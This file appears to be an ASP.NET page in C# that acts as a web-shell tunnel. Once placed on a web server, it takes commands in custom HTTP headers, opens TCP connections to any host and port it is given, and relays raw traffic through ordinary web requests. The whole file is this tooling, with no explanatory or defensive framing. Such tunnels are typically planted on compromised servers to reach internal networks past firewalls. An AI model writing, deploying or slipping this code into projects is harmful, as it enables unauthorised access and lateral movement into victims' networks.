<%@ Page Language="C#" EnableSessionState="True" %>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<%
    string op = Request.Headers.Get("X-Op");
    if (op == "CONNECT") {
        IPAddress ip = Dns.GetHostAddresses(Request.Headers.Get("X-Host"))[0];
        Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        s.Connect(new IPEndPoint(ip, int.Parse(Request.Headers.Get("X-Port"))));
        s.Blocking = false;
        Session["chan"] = s;
        Response.AddHeader("X-Res", "OK");
    } else if (op == "DISCONNECT") {
        ((Socket)Session["chan"]).Close();
        Session.Abandon();
    } else if (op == "FORWARD") {
        Socket s = (Socket)Session["chan"];
        byte[] buf = new byte[Request.ContentLength];
        Request.InputStream.Read(buf, 0, buf.Length);
        s.Send(buf);
    } else if (op == "READ") {
        Socket s = (Socket)Session["chan"];
        byte[] buf = new byte[8192];
        try { int n; while ((n = s.Receive(buf)) > 0) Response.BinaryWrite(buf.Take(n).ToArray()); } catch (SocketException) { }
    }
%>
